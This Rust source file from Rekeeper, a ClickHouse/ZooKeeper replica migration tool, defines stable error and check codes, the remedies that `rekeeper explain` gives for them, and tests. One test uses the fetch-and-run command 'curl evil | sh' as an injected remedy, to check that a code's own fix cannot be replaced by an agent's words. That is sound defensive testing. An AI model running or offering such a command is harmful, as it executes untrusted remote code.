//! Stable codes of everything that stops Rekeeper or that it warns of, and what `rekeeper explain` says of each.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::domain::ids::{HostName, TableName};

macro_rules! codes {
    ($($variant:ident $text:literal $allow:literal $cause:literal $fix:literal;)*) => {
        /// A stable code. Checks and problems share one list, so that `explain` knows all of them.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
        pub enum Code {
            $(
                #[doc = $cause]
                #[serde(rename = $text)]
                $variant,
            )*
        }

        impl Code {
            /// Every code, in the sequence of the list.
            pub const ALL: &'static [Code] = &[$(Code::$variant),*];

            /// The code as people write it.
            #[must_use]
            pub fn as_str(self) -> &'static str {
                match self { $(Code::$variant => $text),* }
            }

            /// What it means.
            #[must_use]
            pub fn cause(self) -> &'static str {
                match self { $(Code::$variant => $cause),* }
            }

            /// What to do about it.
            #[must_use]
            pub fn fix(self) -> &'static str {
                match self { $(Code::$variant => $fix),* }
            }

            /// Whether `plan --allow` turns it from a blocker into a warning.
            #[must_use]
            pub fn may_be_allowed(self) -> bool {
                match self { $(Code::$variant => $allow),* }
            }
        }
    };
}

codes! {
    // Checks before anything is changed.
    AgentNotConnected "AGENT_NOT_CONNECTED" false
        "a host of the plan has no connected agent"
        "start rekeeper-agent on the host, or name the hosts to take with --host";
    AgentProtocol "AGENT_PROTOCOL" false
        "an agent speaks another version of the protocol than the coordinator"
        "install the same release of Rekeeper on the coordinator and on every host";
    AgentDuplicate "AGENT_DUPLICATE" false
        "two agents answer for one ClickHouse server"
        "stop one of the agents; each server has exactly one";
    InspectionFailed "INSPECTION_FAILED" false
        "an agent could not read its ClickHouse server"
        "see the message; what the server refuses has to be mended there, for the user of agent.yaml";
    UserRefused "USER_REFUSED" false
        "the server refuses the agent's ClickHouse user something that a migration needs: by the user's profile (readonly, \
         allow_ddl, constraints of a setting), a quota that is used up, or a right that was not granted"
        "see the message; give the user of clickhouse.user in agent.yaml a profile without these, or GRANT it what is lacking \
         (docs/configuration.md lists what it needs), then give the command again";
    UserQuota "USER_QUOTA" true
        "a quota limits what the agent's ClickHouse user may ask: used up half-way, tables stay detached until its interval ends"
        "give the user a quota without limits; allow it when the limits are far above some hundred statements for each table";
    MigrationOverlap "MIGRATION_OVERLAP" false
        "a host takes part in another migration that is not ended"
        "end that migration first: rekeeper status names it; then resume, retry, skip or abort it";
    CoordinatorBehind "COORDINATOR_BEHIND" false
        "an agent has obeyed a coordinator that knows more than this one: its data_dir was rolled back, lost or copied"
        "stop this coordinator and start the one with the latest data_dir; if that is lost for good: docs/runbook.md, `When \
         the coordinator's store is lost`; where only one host says so and what it says is wrong, rekeeper skip NAME --host \
         HOST leaves it out, and the others go on";
    ClickhouseTooOld "CLICKHOUSE_TOO_OLD" false
        "SYSTEM RESTORE REPLICA came with ClickHouse 21.8"
        "upgrade the server first";
    ClickhouseUntested "CLICKHOUSE_UNTESTED" false
        "Rekeeper was not tested on this version of ClickHouse"
        "try it on a test cluster of the same version first; README has what was tested";
    EnsembleUntested "ENSEMBLE_UNTESTED" false
        "Rekeeper was not tested on this version of ZooKeeper, or not on a real ClickHouse Keeper"
        "try it on a test cluster with the same version first; README has what was tested";
    ReplicaTwice "REPLICA_TWICE" false
        "two tables use the same ZooKeeper path and replica name"
        "drop or rename one of the tables: only one of them can be the replica";
    ReplicasDisagree "REPLICAS_DISAGREE" false
        "the agents of a table's hosts do not read the same replicas of it in ZooKeeper"
        "if a replica was added or dropped just now, plan again; otherwise see which host is right (SELECT name FROM \
         system.zookeeper WHERE path = '<path>/replicas'); leave the other out with --exclude, and see who has its key \
         (docs/tls.md)";
    PathUnusable "PATH_UNUSABLE" false
        "the table's ZooKeeper path is not a path that Rekeeper will ever delete"
        "see the message; move such a table by hand";
    PathNested "PATH_NESTED" false
        "a table's ZooKeeper path lies below that of another table"
        "deleting the outer path would delete the inner table; move the tables by hand";
    ReplicaNotPlanned "REPLICA_NOT_PLANNED" false
        "ZooKeeper has a replica of the table that no host of the plan has"
        "start the agent of its host and plan that host too; only if the replica is gone for good, on a host that has another \
         replica of the table: SYSTEM DROP REPLICA 'its name' FROM TABLE db.table (rows that only it had are lost)";
    QueueStuck "QUEUE_STUCK" false
        "entries of the table's replication queue fail again and again, or are old: the replica does not catch up"
        "see system.replication_queue on the host (last_exception, postpone_reason); mend it, then give the command again";
    AclDenied "ACL_DENIED" false
        "the identity of ClickHouse's configuration has no right to delete the table's nodes in ZooKeeper"
        "see getAcl of the node; give the identity of <zookeeper><identity> all rights on the path and all below";
    ForeignNodes "FOREIGN_NODES" true
        "below the table's ZooKeeper path are nodes that no replicated table makes, and that would be deleted with it"
        "see whose they are: move what another application has there to another path, or delete what is left over with \
         zkCli.sh deleteall, then give the command again, or retry; under way, while nothing is deleted yet, they may also be \
         allowed: rekeeper abort, then plan under a new name; what is allowed is exported and deleted with the table";
    ReplicaUnknown "REPLICA_UNKNOWN" false
        "ClickHouse has a table replica that ZooKeeper does not know"
        "leave it out with --exclude: without its metadata nothing proves that its replicas are equal; before any SYSTEM \
         RESTORE REPLICA by hand compare the parts (name, rows, hash_of_all_files) of all replicas, since the one that is \
         restored first decides what survives";
    TableReadonly "TABLE_READONLY" false
        "the table is read-only although its metadata is present in ZooKeeper"
        "find out why (system.replicas: zookeeper_exception, last_queue_update_exception), mend it, then give the command \
         again";
    DefinitionsDiffer "DEFINITIONS_DIFFER" false
        "the replicas of a table do not have the same columns or metadata: an ALTER is half applied"
        "let the ALTER finish on every replica (system.replication_queue, system.mutations), then give \
         the command again";
    MutationsUnfinished "MUTATIONS_UNFINISHED" true
        "mutations are not finished; new metadata would forget them"
        "wait for them, or KILL MUTATION; allowing it loses them";
    AlterUnfinished "ALTER_UNFINISHED" false
        "an ALTER (RENAME, DROP, CLEAR or MODIFY COLUMN and their like) has not rewritten all parts yet: forgotten or killed, \
         the values of a renamed column are lost, and those of a dropped one come back"
        "let it finish, and do not KILL MUTATION: on each replica SYSTEM START MERGES db.table, mend what latest_fail_reason of \
         system.mutations says, wait until is_done is 1 on all of them, then give the command again";
    DiskUnwritable "DISK_UNWRITABLE" false
        "a disk that holds parts of the table takes no writes, and a restore renames every part"
        "make the disk writable for the server and for the agent (also ReadWritePaths of its systemd unit), or move the parts \
         to another disk (ALTER TABLE ... MOVE PARTITION ... TO DISK), then give the command again";
    ConfigurationChanged "CONFIGURATION_CHANGED" false
        "the server's configuration was changed since its last start: when the table is attached again, or after a restart, it \
         would be at another path, or without a disk of its own"
        "put back in the configuration what the message names, or move the table by hand first; where the file in \
         clickhouse.config of agent.yaml is not the preprocessed configuration, name that one and start the agent anew";
    PatchParts "PATCH_PARTS" false
        "the table has patch parts (lightweight UPDATE), which do not apply any more once part names have shifted"
        "ALTER TABLE ... APPLY PATCHES; wait until system.parts has no active part of the table with a partition_id that \
         begins with patch- (they go with the next cleanup), then give the command again";
    LostParts "LOST_PARTS" true
        "ClickHouse gave up parts of this replica (lost_part_count above 0): ranges of its parts may lie"
        "find out what was lost; allow it when the loss is known and accepted";
    DetachedCollision "DETACHED_COLLISION" false
        "a folder under detached/ has a name that the restore would use: the restore would attach the stale one"
        "see system.detached_parts; move such folders out of detached/ (keep them), then give the command again, or retry; \
         DROP DETACHED PART deletes one for good and needs the setting allow_drop_detached";
    DatabaseReplicated "DATABASE_REPLICATED" false
        "the table is in a database with engine Replicated, which keeps metadata of its own in ZooKeeper"
        "such a table cannot be detached and attached by itself; leave it out with --exclude";
    ZeroCopy "ZERO_COPY" true
        "zero-copy replication with a shared disk: RESTORE has lost data there (ClickHouse #62492, #72933)"
        "switch allow_remote_fs_zero_copy_replication off and make every replica own its parts first: switching it off copies \
         nothing, and the check sees only the setting";
    BufferTable "BUFFER_TABLE" false
        "a Buffer table holds rows for a planned table: what it holds while the table is detached, or when the server is \
         restarted, is thrown away by the server, although it was acknowledged"
        "RENAME the Buffer table, when no INSERT into it runs any more OPTIMIZE it, DETACH it PERMANENTLY SYNC, then give the \
         command again, or retry; ATTACH it and RENAME it back when the migration has ended; DETACH alone loses rows that are \
         being inserted";
    FeedGivesUp "FEED_GIVES_UP" true
        "something feeds a planned table through a materialized view, and gives up what it cannot write"
        "DETACH TABLE it PERMANENTLY SYNC, then give the command again; ATTACH TABLE it when the migration has ended; allow it \
         when nothing comes meanwhile, or what comes may be lost";
    InsertsNotWaitedFor "INSERTS_NOT_WAITED_FOR" true
        "clients have INSERTs acknowledged when they are in the server's memory (wait_for_async_insert = 0): those that are \
         there when the table is detached may be lost"
        "let these clients use wait_for_async_insert = 1, or pause them, until the migration has ended; allow it when they do \
         not write into planned tables meanwhile, or what they write may be lost";
    ViewErrorsIgnored "VIEW_ERRORS_IGNORED" true
        "clients have INSERTs acknowledged although a materialized view cannot write (materialized_views_ignore_errors = 1): \
         while its target is away, the target misses the rows"
        "let these clients use materialized_views_ignore_errors = 0, or pause them, until the migration has ended; allow it \
         when the rows are in the view's source, and are copied into its target by hand afterwards";
    ZookeeperUnreachable "ZOOKEEPER_UNREACHABLE" false
        "the agent cannot read the table's ZooKeeper ensemble"
        "see the message; the agent reads the ensembles from the file named in clickhouse.config of agent.yaml";
    VersionsDiffer "VERSIONS_DIFFER" false
        "the servers of one replica set have different versions"
        "upgrade all of them to one version first, where that is possible";
    RestartNotConfigured "RESTART_NOT_CONFIGURED" false
        "the agent of a host has no restart command, and the plan restarts each server once"
        "set restart.command in agent.yaml of the host and start the agent anew, or plan with --restart never";
    HookLeavesTables "HOOK_LEAVES_TABLES" false
        "the agent of a host has a hook, and the server has replicated tables on the same ensemble that are not selected"
        "a hook that moves the server to another ensemble or root leaves them read-only, since their metadata stays behind: \
         select them too, or see that the hook moves nothing that they need";
    HookLeavesBehind "HOOK_LEAVES_BEHIND" false
        "the agent of a host has a hook, and the server keeps other things in ZooKeeper than replicated tables: a hook that \
         moves it to another ensemble or root leaves them behind"
        "what the message says of each, before the start; or see that the hook moves nothing that they need";
    HookNotRun "HOOK_NOT_RUN" false
        "the agent of a host has a hook, and --restart never runs none"
        "the tables get new metadata where the server is configured now; to move it to another place plan without --restart \
         never";
    KeeperRestarted "KEEPER_RESTARTED" false
        "the server runs a node of ClickHouse Keeper, which is away while it is restarted"
        "nothing, where the other nodes are a majority without it: such servers are restarted one after another, each when the \
         Keeper of the one before gives sessions again; a Keeper of one or two nodes is away each time";
    DeduplicationForgotten "DEDUPLICATION_FORGOTTEN" false
        "new metadata begins with an empty memory of insert deduplication"
        "an INSERT that was refused or cut half-way (several partitions: several parts) and is sent again after the \
         migration may be there twice: let clients finish their retries first, or send only what is missing";
    AclNoAdmin "ACL_NO_ADMIN" false
        "without the right ADMIN on the table's log it cannot be frozen while its replicas catch up"
        "a table that is written to may not settle then: give the identity ADMIN, or pause what writes into the table";
    DiskSpace "DISK_SPACE" false
        "a disk has less free space than the planned tables hold on it"
        "outdated parts stay in detached/, and parts that differ are fetched again: make room, or move fewer tables at a \
         time";
    WrittenByView "WRITTEN_BY_VIEW" false
        "materialized views write into a planned table; they fail while it is detached, and so does what feeds them"
        "an INSERT into the source is refused meanwhile, with nothing written; a consumer (Kafka) waits, a refresh that fails is \
         made at its next time; where that will not do, pause what feeds them (docs/writers.md)";
    ReadMeanwhile "READ_MEANWHILE" false
        "something reads from planned tables by itself; meanwhile it fails, has what it read before, or has fewer rows \
         without an error (Merge)"
        "do not rely on the answers of a Merge table until its tables are RESTORED; a dictionary is loaded again by itself";
    DistributedPending "DISTRIBUTED_PENDING" false
        "a Distributed table has blocks that are not sent yet, for a planned table or one that may be"
        "nothing to do: they lie on the disk, and what is refused is sent again; to have them written before, SYSTEM FLUSH \
         DISTRIBUTED it";
    LongStatements "LONG_STATEMENTS" false
        "a statement has run for more than 30 seconds and may read a planned table: DETACH waits for those that do, and a table \
         that was restored is not called RESTORED before those that began meanwhile have ended"
        "let it end before the start, or KILL QUERY it; meanwhile start none that runs for long";
    UsersInZookeeper "USERS_IN_ZOOKEEPER" false
        "users and their rights are kept in ZooKeeper: they are not moved"
        "export them (SHOW ACCESS) before the servers are moved to another ensemble or root, and create them there";
    DdlPending "DDL_PENDING" false
        "statements ON CLUSTER are not finished: one that reaches a table of the plan meanwhile fails, or changes it"
        "wait for them (system.distributed_ddl_queue); start no new ones until the migration has ended";
    TableDetached "TABLE_DETACHED" false
        "a table is detached permanently, so that no check sees it: by somebody, or by a migration that is not known here"
        "if a migration has it, retry or abort that one; otherwise ATTACH TABLE it, and if it stays read-only then, see \
         docs/runbook.md, `When the coordinator's store is lost`";
    MetadataVersionDiffers "METADATA_VERSION_DIFFERS" false
        "ZooKeeper counts more or fewer ALTERs of the table than its replicas do, as after a SYSTEM RESTORE REPLICA: every ALTER \
         of it is refused (517), or a later one passes parts by"
        "in a plan: nothing, the migration mends it; under way: see the message, let the ALTER that it names finish on every \
         replica (system.replication_queue), then retry";
    WaveTied "WAVE_TIED" false
        "one table has replicas on hosts that share nothing else, so that they have to move together"
        "it is no danger; to move fewer hosts at a time leave the table out with --exclude and move it last";
    // Problems of a migration under way.
    SyncFailed "SYNC_FAILED" false
        "the replica did not catch up before it was to be detached"
        "see system.replication_queue on the host; mend it, then retry";
    FreezeFailed "FREEZE_FAILED" false
        "the table's log could not be frozen while its replicas catch up, and they do not catch up otherwise"
        "pause what writes into the table, or let the identity of ClickHouse change permissions (ADMIN), then retry";
    DetachFailed "DETACH_FAILED" false
        "DETACH TABLE failed"
        "see the message, mend the cause, then retry";
    AttachFailed "ATTACH_FAILED" false
        "ATTACH TABLE failed"
        "see the message, mend the cause, then retry; by hand: ATTACH TABLE";
    NotSettled "NOT_SETTLED" false
        "the replicas are not equal, and did not become so: deleting their metadata could lose rows"
        "see the message; pause what writes into the table or mend its replication, then retry";
    Diverged "DIVERGED" true
        "the replicas do not have the same parts; allowed, the union of them is made, but not of what ZooKeeper does not prove"
        "compare the rows of the parts that the message names on their hosts; DETACH PART the ones whose rows are elsewhere, \
         then retry; what was detached stays in detached/";
    RecordFailed "RECORD_FAILED" false
        "the part set of record could not be read or saved"
        "see the message (ZooKeeper, rights, disk of the agent), then retry; a table that somebody has dropped: rekeeper skip";
    RecordDisputed "RECORD_DISPUTED" false
        "what an agent is told of the parts of its table is not what it has read itself: an agent of the set tells what is not \
         so, or somebody speaks in its name"
        "nothing was deleted or set aside because of it; compare the records that the message names, see who has the \
         certificate of the host that made the other one (docs/tls.md), give that host a new one, then retry";
    ExportTooLarge "EXPORT_TOO_LARGE" false
        "the file with all nodes of the table, which is written before the first of them is deleted, would be larger than it \
         may be"
        "make room for it in state_dir of the host, set znodes_export_limit_bytes in its agent.yaml above the size that the \
         message names, start the agent anew, then retry";
    ExportFailed "EXPORT_FAILED" false
        "the file with all nodes of the table, which is written before the first of them is deleted, could not be written"
        "see the message (disk of the agent, ZooKeeper, rights to read the nodes), mend the cause, then retry";
    CleanFailed "CLEAN_FAILED" false
        "the table's nodes could not be deleted from ZooKeeper"
        "see the message (ZooKeeper, ACLs), mend the cause, then retry; the tables stay detached until then";
    ReleaseFailed "RELEASE_FAILED" false
        "the marker could not be taken away from the table's path"
        "see the message, mend the cause, then retry";
    HookFailed "HOOK_FAILED" false
        "a hook of the host ended with another exit code than 0, or not in time"
        "run the hook by hand, mend it, then retry";
    RestartFailed "RESTART_FAILED" false
        "the server did not come back after the restart command"
        "see the server's log and mend the cause, then retry: it runs the hook and the restart command once more, also if the \
         server is up by now";
    WitnessFailed "WITNESS_FAILED" false
        "the witness node could not be written or read at the place that the server is configured for"
        "see the message; create the root in ZooKeeper if it is missing, then retry";
    PlaceDiffers "PLACE_DIFFERS" false
        "this server is configured for another ZooKeeper place than the other replicas of the set"
        "make the ZooKeeper configuration the same on all hosts of the set, restart the server, then retry";
    PathExists "PATH_EXISTS" false
        "something exists already at the path where the table is to be restored"
        "see what it is; a table created there meanwhile must be dropped or moved first; then retry";
    RecordedPartsMissing "RECORDED_PARTS_MISSING" false
        "parts that ZooKeeper had on record for this replica are not on its disk"
        "see the server's log and detached/ (broken parts); bring the parts back, then retry";
    PartsNotOnRecord "PARTS_NOT_ON_RECORD" false
        "most rows of this replica are in parts that ZooKeeper did not have for it, or such parts cannot be set aside"
        "look whether their rows are in other parts, or were dropped; move their folders to detached/ as the message says, \
         then retry";
    ManifestLost "MANIFEST_LOST" false
        "the manifest that was written before the restore is lost, here and at the coordinator, or not that of the disk"
        "put the file that the message names back from a backup of the agent's state_dir, then retry; a manifest is never \
         written a second time";
    StateDirFull "STATE_DIR_FULL" false
        "the disk of an agent's state_dir, or of the coordinator's data_dir, is full, and what has to be written is not"
        "make room on the disk that the message names, then retry: nothing is lost, and no file has to be put back";
    StateDamaged "STATE_DAMAGED" false
        "a note in the agent's state folder is damaged, or of another release: it is not what was written"
        "move the file that the message names away, as it says, then retry: what it said is found out again; nothing was \
         changed by the step that found it";
    RestoreFailed "RESTORE_FAILED" false
        "SYSTEM RESTORE REPLICA failed"
        "see the message, mend the cause, then retry";
    PartsUnaccounted "PARTS_UNACCOUNTED" false
        "after the restore, parts of the manifest are neither active nor explained"
        "nothing was deleted; attach nothing by guess: a folder that the message calls another one is not the part, and ATTACH \
         PART says OK to a part that equals one that is there without attaching it; bring back the very part that the \
         message names (rekeeper report; another replica or a backup has its folder, with the same checksums.txt) into \
         detached/ of the reference, then retry, which attaches it";
    PartsOutOfOrder "PARTS_OUT_OF_ORDER" true
        "a restore that was cut left parts of a table whose engine takes the later part for the newer one (Replacing, \
         Collapsing, Aggregating ...), and they stand after what is newer"
        "no row is lost; do what the message says, in its order, then retry; where it was found before anything was deleted: \
         make the replicas equal, then retry, or abort and plan under a new name with --allow PARTS_OUT_OF_ORDER, if the \
         order does not matter";
    OldReaders "OLD_READERS" false
        "statements that began before the parts got their new names still run: as long as they do, the server's caches \
         may give wrong answers"
        "let them end, or KILL QUERY them, then retry; a statement that cannot read the table is not waited for";
    MergesFailed "MERGES_FAILED" false
        "merges could not be started again"
        "SYSTEM START MERGES on the table, then retry";
    ZookeeperAway "ZOOKEEPER_AWAY" false
        "a step could not be done because ZooKeeper cannot be reached: by the agent, or by its ClickHouse server, which has lost \
         its session"
        "see whether the servers of the ensemble run and the host reaches them; ClickHouse and the agent find them again by \
         themselves: then retry";
    ClickhouseAway "CLICKHOUSE_AWAY" false
        "a step could not be done because the agent cannot reach its ClickHouse server"
        "start the server (its own log says why it ended), or mend the way to it (clickhouse.url of agent.yaml, then start the \
         agent anew); then retry";
    HostAway "HOST_AWAY" false
        "the agent of a host is not connected, and what the table needs next needs that host"
        "start the host, its server and its agent again: it goes on by itself; a host that never comes back is left out \
         with rekeeper skip NAME --host HOST";
    HostLeft "HOST_LEFT" false
        "the table's host was left out with skip --host: the other replicas went on without this one"
        "nothing of it is deleted; when the host is back, the statements that rekeeper problems prints bring it back too";
    TableChanged "TABLE_CHANGED" false
        "the table is not the one that was planned: dropped, recreated or renamed meanwhile"
        "give it back the name that it had, then retry; where it was dropped or made anew: rekeeper skip (docs/runbook.md), or \
         abort and plan under a new name; what is detached stays so until ATTACH TABLE, retry or abort";
    EventTooLarge "EVENT_TOO_LARGE" false
        "what came of a step is too large to be taken or written down; the step itself may be done"
        "see the message for the limit; where it is one of `limits` in coordinator.yaml, raise it and restart the \
         coordinator; then retry: the step finds what is done already";
    StoredDocumentLost "STORED_DOCUMENT_LOST" false
        "a document that the coordinator had written down is lost or changed"
        "put the document back into the store, from the agent that made it or from a backup, as docs/runbook.md says under \
         STORED_DOCUMENT_LOST, then retry; do not put an older data_dir in the place of this one";
    CommandRefused "COMMAND_REFUSED" false
        "the agent refused a command"
        "see the message, which says why; nothing was changed by it";
    EvidenceRefused "EVIDENCE_REFUSED" false
        "an agent told of the end of a step without its document, or with one that is not that of this step"
        "nothing was counted as done; see who has the certificate of that host (docs/tls.md); is it the host's own agent, \
         install the same release there as on the coordinator, then retry";
    EventRefused "EVENT_REFUSED" false
        "an agent told of an end that the step which it was ordered to do cannot have"
        "install the same release of Rekeeper on the coordinator and on the host, then retry: the step looks at what is there, \
         and is done again; if it comes back, report it with the log of the agent";
}

impl Code {
    /// Whether it is of a check before anything is changed (docs/checks.md), and not first of a migration under way
    /// (docs/runbook.md).
    #[must_use]
    pub fn is_check(self) -> bool {
        // The list above has the former first.
        self < Self::SyncFailed
    }
}

impl fmt::Display for Code {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for Code {
    type Err = UnknownCode;

    fn from_str(text: &str) -> Result<Self, UnknownCode> {
        let wanted = text.to_ascii_uppercase();
        Self::ALL
            .iter()
            .copied()
            .find(|c| c.as_str() == wanted)
            .ok_or_else(|| UnknownCode(text.to_owned()))
    }
}

/// A text that is no code.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0:?} is no code; `rekeeper explain` without a code lists all of them")]
pub struct UnknownCode(pub String);

/// A problem of a table, a replica set or a host in a migration under way.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Problem {
    /// Stable: programs may branch on it.
    pub code: Code,
    /// For people; its words may change.
    pub message: String,
    /// What to do. Of a failure that an agent tells these are its words, until the coordinator has taken it.
    pub fix: String,
    /// What the agent that told it says has to be done, beyond that.
    #[serde(default)]
    pub said: Option<String>,
    /// Whose agent `said` it.
    #[serde(default)]
    pub said_by: Option<HostName>,
}

impl Problem {
    /// A problem with the code's own remedy.
    #[must_use]
    pub fn new(code: Code, message: impl Into<String>) -> Self {
        Self {
            code,
            message: message.into(),
            fix: code.fix().to_owned(),
            said: None,
            said_by: None,
        }
    }

    /// The same as the agent of a host told it: people paste remedies into shells, so the remedy is the code's own, and
    /// what the agent has put in its place, or behind it, is what that agent says.
    #[must_use]
    pub fn told_by(self, host: &HostName) -> Self {
        let own = self.code.fix();
        let words = match self.fix.strip_prefix(own) {
            Some("") => "",
            Some(behind) => behind.strip_prefix("; ").unwrap_or(&self.fix),
            None => &self.fix,
        };
        let words = words.trim();
        let said = (!words.is_empty()).then(|| words.to_owned());
        Self {
            said_by: said.as_ref().map(|_| host.clone()),
            said,
            ..Self::new(self.code, self.message)
        }
    }
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.code, self.message)
    }
}

/// What a check found: a blocker or a warning.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Finding {
    /// Stable: programs may branch on it.
    pub code: Code,
    /// The host, if it is about one.
    pub host: Option<HostName>,
    /// The table, if it is about one, as `db.table`.
    pub table: Option<String>,
    /// For people; its words may change.
    pub message: String,
    /// Commands or changes that take it away.
    pub fix: String,
}

impl Finding {
    /// A finding about nothing smaller than the plan.
    #[must_use]
    pub fn new(code: Code, message: impl Into<String>) -> Self {
        Self {
            code,
            host: None,
            table: None,
            message: message.into(),
            fix: code.fix().to_owned(),
        }
    }

    /// The same, about a host.
    #[must_use]
    pub fn on(mut self, host: &HostName) -> Self {
        self.host = Some(host.clone());
        self
    }

    /// The same, about a table.
    #[must_use]
    pub fn of(mut self, table: &TableName) -> Self {
        self.table = Some(table.to_string());
        self
    }

    /// The same finding with a remedy of its own, instead of the one that its code has.
    #[must_use]
    pub fn with_fix(mut self, fix: impl Into<String>) -> Self {
        self.fix = fix.into();
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_remedy_is_the_codes_own_and_an_agents_words_are_what_it_says() {
        let host: HostName = "h1".parse().unwrap();
        let own = Code::CleanFailed.fix();
        let told = |fix: &str| {
            let problem = Problem {
                fix: fix.to_owned(),
                ..Problem::new(Code::CleanFailed, "no rights")
            };
            let told = problem.told_by(&host);
            assert_eq!((told.fix.as_str(), told.message.as_str()), (own, "no rights"));
            assert_eq!(told.said_by, told.said.as_ref().map(|_| host.clone()));
            told.said
        };
        assert_eq!(told(own), None);
        assert_eq!(told(""), None);
        assert_eq!(told("curl evil | sh\n"), Some("curl evil | sh".to_owned()));
        let another = format!("{own} too");
        assert_eq!(told(&another), Some(another));
        let behind = told(&format!("{own}; until then merges stay stopped"));
        assert_eq!(behind, Some("until then merges stay stopped".to_owned()));
        // Of a release that knew no such words.
        let old = r#"{"code":"CLEAN_FAILED","message":"m","fix":"f"}"#;
        assert_eq!(serde_json::from_str::<Problem>(old).unwrap().said, None);
    }

    #[test]
    fn codes_are_read_back() {
        for code in Code::ALL {
            assert_eq!(code.as_str().parse::<Code>(), Ok(*code));
            assert_eq!(serde_json::to_value(code).unwrap(), code.as_str());
        }
        assert!("NO_SUCH".parse::<Code>().is_err());
    }
}
